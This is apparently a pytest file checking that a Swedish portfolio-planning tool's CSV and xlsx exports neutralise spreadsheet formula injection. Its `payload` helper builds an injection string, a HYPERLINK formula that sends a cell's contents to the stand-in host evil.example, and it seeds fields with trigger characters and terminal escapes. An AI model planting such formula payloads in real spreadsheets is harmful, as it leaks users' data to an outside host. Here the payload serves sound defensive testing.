"""Hostile text in the spreadsheets avoplan writes (issue 28): no text field ever becomes
a formula, in CSV (OWASP's leading apostrophe) or in xlsx (text cells, never `<f>`), for
every export and for `pios`, to a file and to stdout; control characters that `check`
accepts never break an xlsx."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from ruamel.yaml.scalarstring import DoubleQuotedScalarString

from avoplan.store.yaml_edit import edit_text
from tests.helpers import EMBEDDED, Cli, copy_portfolio

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\uff1d"]
# (file, field path, tag): the text fields that reach a spreadsheet.
FIELDS: list[tuple[str, tuple[Any, ...], str]] = [
    ("behov/BEH-004.yaml", ("titel",), "behovtitel"),
    ("behov/BEH-004.yaml", ("beskrivning",), "beskrivning"),
    ("behov/BEH-004.yaml", ("nytta",), "nytta"),
    ("projekt/PRJ-021.yaml", ("titel",), "projekttitel"),
    ("projekt/PRJ-021.yaml", ("omvärld", 0, "händelse"), "omvarld"),
    ("organisation.yaml", ("personer", "anna-svensson", "namn"), "kontakt"),
    ("organisation.yaml", ("personer", "peter-wall", "namn"), "agare"),
    ("organisation.yaml", ("avdelningar", "hemtjanst", "namn"), "avdelning"),
    ("system/pascal.yaml", ("namn",), "systemnamn"),
    ("system/pascal.yaml", ("leverantör",), "leverantor"),
]
# Which tags each export must carry (so the test fails if a payload never lands).
EXPECTED = {
    "behov": {"behovtitel", "beskrivning", "nytta", "kontakt"},
    "projekt": {"projekttitel", "agare", "avdelning"},
    "prioritet": {"behovtitel"},
    "system": {"systemnamn", "leverantor"},
    "pios": {"projekttitel", "omvarld", "avdelning"},
}


def payload(trigger: str, tag: str) -> str:
    return f'{trigger}HYPERLINK("http://evil.example/?{tag}="&A1,"Klicka")'


def _set(document: Any, path: tuple[Any, ...], value: str) -> None:
    target = document
    for part in path[:-1]:
        if isinstance(part, str) and isinstance(target, list):  # a list of records by id
            target = next(x for x in target if x.get("id") == part)
        else:
            target = target[part]
    target[path[-1]] = DoubleQuotedScalarString(value)  # a leading tab stays text


def poison(portfolio: Path, trigger: str) -> None:
    """Every field of FIELDS set to the trigger's payload, each file edited once."""
    for file in dict.fromkeys(file for file, _, _ in FIELDS):
        target = portfolio / file
        fields = [(path, tag) for named, path, tag in FIELDS if named == file]

        def poisoned(document: Any, fields: list[tuple[Any, str]] = fields) -> None:
            for path, tag in fields:
                _set(document, path, payload(trigger, tag))

        text = edit_text(target.read_text(encoding="utf-8"), poisoned)
        target.write_text(text, encoding="utf-8")


def csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") for c in row]


def xlsx_cells(path: Path) -> list[Any]:
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            assert b"<f>" not in book.read(name) and b"<f " not in book.read(name), name
    sheet = load_workbook(path).active
    assert sheet is not None
    found = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            found.append(cell.value)
    return found


def exported(cli: Cli, portfolio: Path, tmp_path: Path, what: str, how: str) -> list[Any]:
    """Every cell of `what` exported as `how` (csv-stdout, csv-file or xlsx)."""
    command = ["pios"] if what == "pios" else ["export", what]
    if how == "csv-stdout":
        result = cli(*command, "-p", portfolio)
        assert result.exit_code == 0, result.output
        return csv_cells(result.stdout)
    out = tmp_path / f"{what}.{'xlsx' if how == 'xlsx' else 'csv'}"
    fmt = ["-f", "xlsx"] if how == "xlsx" else []
    result = cli(*command, *fmt, "-o", out, "-p", portfolio)
    assert result.exit_code == 0, result.output
    if how == "xlsx":
        return xlsx_cells(out)
    return csv_cells(out.read_text(encoding="utf-8-sig"))


def tags_in(cells: list[Any]) -> set[str]:
    return {t for c in cells if isinstance(c, str) for _, _, t in FIELDS if f"?{t}=" in c}


@pytest.fixture(scope="module", params=TRIGGERS, ids=repr)
def poisoned(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> tuple[str, Path]:
    """A portfolio whose every text field starts with one trigger (shared by the exports
    of that trigger, so its cache is warm after the first)."""
    trigger: str = request.param
    root = copy_portfolio(EMBEDDED, tmp_path_factory.mktemp("gift") / "portfolio")
    poison(root, trigger)
    return trigger, root


@pytest.mark.parametrize("how", ["csv-stdout", "csv-file", "xlsx"])
@pytest.mark.parametrize("what", ["behov", "projekt", "prioritet", "system", "pios"])
def test_no_text_field_becomes_a_formula(
    cli: Cli, poisoned: tuple[str, Path], tmp_path: Path, what: str, how: str
) -> None:
    _, portfolio = poisoned
    cells = exported(cli, portfolio, tmp_path, what, how)
    assert tags_in(cells) >= EXPECTED[what]
    safe: Callable[[str], bool]
    if how == "xlsx":  # a text cell keeps the text as it is; Excel never evaluates it

        def safe(c: str) -> bool:
            return c.lstrip("\r\n\t")[:1] in {"=", "+", "-", "@", "\uff1d", "H"}
    else:  # OWASP: a leading apostrophe before any trigger

        def safe(c: str) -> bool:
            return c[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"}

    for value in cells:
        if isinstance(value, str) and "evil.example" in value:
            assert safe(value), (what, how, value)


def test_csv_cells_carry_an_apostrophe_before_the_formula(
    cli: Cli, poisoned: tuple[str, Path], tmp_path: Path
) -> None:
    """In the file, exactly (a terminal is shown a CR as a visible escape instead)."""
    trigger, portfolio = poisoned
    out = tmp_path / "behov.csv"
    assert cli("export", "behov", "-o", out, "-p", portfolio).exit_code == 0
    cells = csv_cells(out.read_bytes().decode("utf-8"))  # CR kept as written
    assert "'" + payload(trigger, "behovtitel") in cells


def test_a_bell_in_a_title_that_check_accepts_exports_to_xlsx(
    cli: Cli, portfolio: Path, tmp_path: Path
) -> None:
    need = portfolio / "behov" / "BEH-004.yaml"
    need.write_text(
        need.read_text(encoding="utf-8").replace(
            "titel: Digital läkemedelssignering på boenden",
            'titel: "Digital\\u0007 läkemedelssignering\\x1b[31m på boenden"',
        ),
        encoding="utf-8",
    )
    assert cli("check", "-p", portfolio).exit_code == 0
    for what in ("behov", "prioritet"):
        out = tmp_path / f"{what}.xlsx"
        result = cli("export", what, "-f", "xlsx", "-o", out, "-p", portfolio)
        assert result.exit_code == 0, result.output
        assert "Digital\u2407 läkemedelssignering\u241b[31m på boenden" in xlsx_cells(out)


def test_pios_xlsx_holds_hours_as_numbers_and_dates_as_dates(
    cli: Cli, portfolio: Path, tmp_path: Path
) -> None:
    from datetime import datetime

    out = tmp_path / "pios.xlsx"
    assert cli("pios", "-f", "xlsx", "-o", out, "-p", portfolio).exit_code == 0
    sheet = load_workbook(out).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    row = dict(zip(rows[0], next(r for r in rows if r[0] == "PRJ-021"), strict=True))
    assert row["Frigjord tid (h/år)"] == 9000
    assert isinstance(row["Start"], datetime) and row["Start"].date().isoformat() == "2025-05-05"


def test_pios_to_stdout_has_the_byte_order_mark_of_the_file(
    cli: Cli, portfolio: Path, tmp_path: Path
) -> None:
    out = tmp_path / "pios.csv"
    assert cli("pios", "-o", out, "-p", portfolio).exit_code == 0
    stdout = cli("pios", "-p", portfolio).stdout
    assert stdout.startswith("\ufeff")
    assert stdout.replace("\r\n", "\n") == out.read_bytes().decode("utf-8").replace("\r\n", "\n")
